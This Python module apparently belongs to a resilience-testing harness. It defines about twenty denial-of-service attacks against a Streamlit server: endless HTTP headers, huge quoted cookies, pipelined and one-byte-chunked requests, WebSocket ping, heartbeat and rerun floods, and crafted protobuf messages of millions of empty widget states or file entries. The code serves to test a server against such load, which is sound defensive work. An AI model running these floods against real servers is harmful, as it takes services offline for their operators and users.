"""Attacks on connections: heads, frames, and messages of WebSockets that no page sends (see `attacks`)."""

import asyncio
import json
from collections.abc import Awaitable, Callable
from contextlib import suppress

from attacks import ATTACKER, HOST, TOKENIZE, Run, attack, connect
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit_session import Session
from websockets.exceptions import WebSocketException

MAX_SENT_BYTES = 100_000_000
RERUN, WIDGET_STATES, WIDGETS = 11, 2, 1  # numbers of fields in Streamlit's messages

_HANDSHAKE = "\r\n".join(
    [
        *("GET /_stcore/stream HTTP/1.1", f"Host: {HOST}", "Upgrade: websocket", "Connection: Upgrade"),
        *("Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", ""),
    ]
).encode()


async def _pour(run: Run, clients: int, opening: bytes, data: bytes) -> None:
    """Let clients send an opening, then the same data again and again, and read nothing. Count the bytes accepted."""

    async def pour() -> None:
        reader, writer = await connect(run.port, ATTACKER)
        sent = 0
        with suppress(OSError, EOFError, TimeoutError):
            async with asyncio.timeout(run.seconds):
                writer.write(opening)
                if opening == _HANDSHAKE:  # what follows at once would be lost
                    await reader.readuntil(b"\r\n\r\n")
                while not run.is_over and sent < MAX_SENT_BYTES:
                    writer.write(data)
                    await writer.drain()
                    sent += len(data)
        writer.close()
        run.count(f"{sent / 1e6:.1f} MB")

    await asyncio.gather(*(pour() for _ in range(clients)))


def _frame(opcode: int, data: bytes = b"") -> bytes:
    """A short frame of a WebSocket, masked with zeros."""
    return bytes([opcode, 0x80 | len(data), *bytes(4)]) + data


@attack
async def endless_headers(run: Run) -> None:
    """A head with headers without end."""
    await _pour(run, 1, f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode(), b"a:b\r\n" * 50_000)


@attack
async def endless_header(run: Run) -> None:
    """A request head with one endless header."""
    await _pour(run, 1, f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX: ".encode(), b"a" * 250_000)


@attack
async def quoted_cookies(run: Run) -> None:
    """A client that repeatedly sends a cookie of 60 KB of escaped quotes."""
    request = f'GET / HTTP/1.1\r\nHost: {HOST}\r\nCookie: _streamlit_xsrf="' + r"\"" * 30_000 + '"\r\n\r\n'
    while not run.is_over:
        reader, writer = await connect(run.port, ATTACKER)
        writer.write(request.encode())
        with suppress(OSError, EOFError, IndexError):
            run.count((await reader.readline()).split()[1].decode())
        writer.close()


@attack
async def health_checks(run: Run) -> None:
    """Two hundred clients that repeatedly request something tiny that isn't of this app."""
    await run.repeat(200, ("/_stcore/health", b"", "GET"))


@attack
async def requests_in_advance(run: Run) -> None:
    """Three clients that pipeline requests without reading the responses."""
    await _pour(run, 3, b"", f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 3_000)


@attack
async def tiny_chunks(run: Run) -> None:
    """Four bodies in chunks of one byte each."""
    opening = f"POST {TOKENIZE} HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\n"
    while not run.is_over:
        await _pour(run, 4, opening.encode(), b"1\r\na\r\n" * 40_000)


@attack
async def unread_files(run: Run) -> None:
    """Three hundred requests for a file of 4.5 MB, of which nobody reads a byte."""
    request = f"GET /_tokviz/static/js/plotly.min.js HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
    await Run(run.port, max(run.seconds, 50)).stall([request.encode()] * 300)


# Frames


@attack
async def pings(run: Run) -> None:
    """Two WebSockets that ping without reading the replies."""
    await _pour(run, 2, _HANDSHAKE, _frame(0x89, bytes(125)) * 2_000)


@attack
async def empty_frames(run: Run) -> None:
    """Two endless WebSocket messages of empty frames."""
    await _pour(run, 2, _HANDSHAKE, _frame(0x02) + _frame(0x00) * 40_000)


@attack
async def heartbeats(run: Run) -> None:
    """Four WebSockets that send endless heartbeats."""
    await _pour(run, 4, _HANDSHAKE, _frame(0x82, BackMsg(app_heartbeat=True).SerializeToString()) * 5_000)


@attack
async def reruns(run: Run) -> None:
    """Twenty pages that repeatedly request a rerun."""
    message = BackMsg()
    message.rerun_script.page_name = "train"
    await _pour(run, 20, _HANDSHAKE, _frame(0x82, message.SerializeToString()) * 1_000)


# Messages


async def _visit(run: Run, pages: int, act: Callable[[Session], Awaitable[None]], page: str = "") -> None:
    """Open pages and do something on each, until the time is over."""

    async def visit() -> None:
        try:
            session = await Session.open(run.port, ATTACKER)
        except (OSError, WebSocketException, TimeoutError):
            run.count("refused")
            return
        with suppress(OSError, WebSocketException, TimeoutError):
            async with asyncio.timeout(run.seconds):
                await session.visit(page)
                await act(session)
        await session.leave()
        run.count("opened")

    await asyncio.gather(*(visit() for _ in range(pages)))


async def _send(run: Run, messages: list[bytes], pages: int = 1) -> None:
    """Open pages, send messages on each, and stay until the time is over."""

    async def send(session: Session) -> None:
        for message in messages:
            await session.send_bytes(message)
        await asyncio.sleep(run.seconds)

    await _visit(run, pages, send)


def _field(number: int, data: bytes) -> bytes:
    """Return a field of a protobuf message that holds a message or string."""
    size, rest = b"", len(data)
    while rest > 127:
        size, rest = size + bytes([rest & 127 | 128]), rest >> 7
    return bytes([number << 3 | 2]) + size + bytes([rest]) + data


def _typed(**value: str) -> bytes:
    message = BackMsg()
    message.rerun_script.widget_states.widgets.add(id="x", **value)
    return bytes(message.SerializeToString())


@attack
async def git_information(run: Run) -> None:
    """Requests for git's information about the server's folder, and to clear all visitors' caches, 1,000 of each."""
    unsent = [BackMsg(load_git_info=True).SerializeToString(), BackMsg(clear_cache=True).SerializeToString()]
    await _send(run, unsent * 1_000)


@attack
async def upload_addresses(run: Run) -> None:
    """A request for the addresses of two million uploads at once."""
    message = BackMsg()
    message.file_urls_request.file_names.extend(["x"] * 2_000_000)
    await _send(run, [message.SerializeToString()])


@attack
async def empty_widgets(run: Run) -> None:
    """A message of 30 MB that consists of fifteen million empty widget states."""
    await _send(run, [_field(RERUN, _field(WIDGET_STATES, _field(WIDGETS, b"") * 15_000_000))])


@attack
async def empty_files(run: Run) -> None:
    """Five pages with a widget state of eleven million empty files."""
    state = _field(1, b"x") + _field(13, _field(2, b"") * 11_000_000)
    await _send(run, [_field(RERUN, _field(WIDGET_STATES, _field(WIDGETS, state)))], 5)


@attack
async def json_lists(run: Run) -> None:
    """A widget state of 23 MB of empty lists as JSON."""
    await _send(run, [_typed(json_value="[" + "[]," * 7_600_000 + "0]")])


@attack
async def long_messages(run: Run) -> None:
    """Sixty pages that send three messages of 9.5 MB each at once, of which no page has any."""
    await _send(run, [_typed(json_value=json.dumps({"text": "a" * 9_500_000}))] * 3, 60)


@attack
async def unread_runs(run: Run) -> None:
    """Four pages that ask for six runs a second and read nothing."""

    async def ask(session: Session) -> None:
        while True:
            await session.ask_for_run()
            await asyncio.sleep(0.15)

    await _visit(run, 4, ask)


@attack
async def many_pages(run: Run) -> None:
    """Three hundred pages with charts, opened at once."""

    async def leave(_: Session) -> None:
        pass

    await _visit(run, 300, leave, "compression")
